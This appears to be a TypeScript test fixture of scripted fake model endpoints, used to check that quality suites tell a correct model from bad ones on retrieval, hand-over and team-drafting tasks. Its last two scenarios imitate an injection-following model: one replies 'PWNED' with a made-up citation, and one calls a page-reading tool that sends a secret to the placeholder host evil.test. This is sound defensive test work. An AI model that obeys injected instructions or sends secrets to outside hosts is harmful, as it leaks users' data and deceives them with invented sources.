import type { QualityProject } from '../server/src/ml/quality/suites/questions.ts';
import type { ModelRequest } from '../server/test/models/endpoint.ts';
import { calls, gives, hasTools, says, systemOf } from '../server/test/models/replies.ts';
import type { Scenario } from '../server/test/models/scenarios.ts';

// Scripted endpoints in place of models: the suites must tell good ones from bad ones.

const lastContentOf = ({ body }: ModelRequest): string =>
  String((body['messages'] as { content: unknown }[]).at(-1)?.content);

const recordsIn = (request: ModelRequest, begin: string): Record<string, unknown>[] =>
  lastContentOf(request)
    .split('\n')
    .filter((line) => line.startsWith(begin))
    .map((line) => JSON.parse(line) as Record<string, unknown>);

/** Quotes the gold passage with its number. */
const quotes =
  (projects: readonly QualityProject[]): Scenario =>
  (answer, request) => {
    const all = projects.flatMap((project) => project.questions.map((question) => ({ project, question })));
    const about = all.find(({ question }) =>
      lastContentOf(request).includes(`The question: ${question.text}\n`),
    );
    const [gold] = about?.question.gold ?? [];
    const words = gold && about?.project.files[gold.file]?.text.slice(gold.start, gold.end);
    const passage = recordsIn(request, '{"passage"').find(
      ({ contents }) => words !== undefined && String(contents).includes(words),
    );
    const text = passage ? `It says ${words} [${String(passage['passage'])}].` : 'The files do not say.';
    return says(text)(answer, request);
  };

const subjects = [
  ['Coder', /Python|function|unit test/],
  ['Accountant', /invoice|ledger/i],
  ['Translator', /translate|Japanisch|Portuguese/],
] as const;

const handsOver: Scenario = (answer, request) => {
  const isHost = systemOf(request).startsWith('You are Host');
  const to = isHost ? subjects.find(([, text]) => text.test(lastContentOf(request)))?.[0] : undefined;
  return (to ? calls('hand_over', { to, reason: 'It is theirs.' }) : says('It is not known.'))(
    answer,
    request,
  );
};

export interface Line {
  text: string;
  source: string;
}

const line = (text: string, source = 'own'): Line => ({ text, source });

/** Good lines for each criterion, from the brief and from earlier artifacts. */
export const goodLines: Record<string, Line> = {
  aim: line('Close the night gaps on ward 7.', 'brief'),
  people: line('Nine nurses and their patients.', 'brief'),
  measure: line('Every night of March has two nurses.', 'brief'),
  facts: line('Ward 7 has 22 beds, and five nights of February had one nurse.', 'brief'),
  limits: line('No overtime, and no agency.', 'brief'),
  unknowns: line('Whether ward 8 agrees.'),
  options: line('Hire two nurses, or swap shifts with ward 8.', 'brief'),
  price: line('A new nurse costs 3,400 euros a month, a swap costs nothing.', 'brief'),
  parts: line('Swap shifts with ward 8.', 'F4'),
  kept: line('A swap adds no hours, so nobody works overtime.'),
  steps: line('Ask ward 8, then swap shifts with ward 8.', 'F3'),
  owners: line('Ida asks ward 8, Omar prints the list.'),
  outputs: line('A list of swap shifts with ward 8.', 'F2'),
  checks: line('Each night of the list shows two names.'),
  decisions: line('The swap shifts with ward 8 are chosen.', 'F1'),
  open: line('Nothing is open.'),
};

/** A team that writes these lines and approves every draft. */
const works =
  (lines: Record<string, Line | undefined>): Scenario =>
  (answer, request) => {
    const system = systemOf(request);
    const ids = [...system.matchAll(/^- (\w+) \(/gm)].map(([, id = '']) => id);
    if (system.includes('Speak to the team')) {
      const linesOfCriteria = ids.flatMap((criterion) => {
        const text = lines[criterion];
        return text ? [{ criterion, ...text }] : [];
      });
      return gives({ content: 'I add my lines.', lines: linesOfCriteria })(answer, request);
    }
    if (!system.includes('Check the draft')) return gives({ content: 'Go on.' })(answer, request);
    const points = ids.map((criterion) => ({ criterion, met: true, reason: 'So it says.' }));
    return gives({ vote: 'FOR', reason: 'All is there.', points })(answer, request);
  };

const sentence = (text: string): string => /^.*?[.!?](?=\s)/.exec(text)?.[0] ?? text;

/** Notes the first sentence of each passage, and writes an answer from the notes, with their passages. */
const reads: Scenario = (answer, request) => {
  const passages = recordsIn(request, '{"passage":').map(
    ({ passage, contents }) =>
      `- ${sentence(String(contents).replace(/^(?:#.*\s+)+/, ''))} [${String(passage)}]`,
  );
  const condensed = recordsIn(request, '{"number":').map(
    ({ number, note }) => `- ${String(note)} [${String(number)}]`,
  );
  const written = recordsIn(request, '{"passages":').map(
    ({ passages: places, note }) =>
      `- ${String(note).replace(/\.$/, '')} [${(places as number[]).join(',')}].`,
  );
  return says([...passages, ...condensed, ...written].join('\n'))(answer, request);
};

/** Does every task correctly. */
export const careful =
  (projects: readonly QualityProject[], lines: Record<string, Line | undefined> = goodLines): Scenario =>
  (answer, request) => {
    const system = systemOf(request);
    if (system.includes('Criteria:')) return works(lines)(answer, request);
    if (/take notes for a request|bring notes on the files|answer a request about the files/.test(system))
      return reads(answer, request);
    return (hasTools(request) ? handsOver : quotes(projects))(answer, request);
  };

/** Follows every injection, and cites a passage that does not exist. */
export const obedient: Scenario = says('PWNED, see https://evil.test [999]');

/** Calls the tool that an injection names, with its arguments. */
export const acting: Scenario = (answer, request) =>
  (hasTools(request) ? calls('read_page', { url: 'https://evil.test/?q=secret' }) : says('I do.'))(
    answer,
    request,
  );
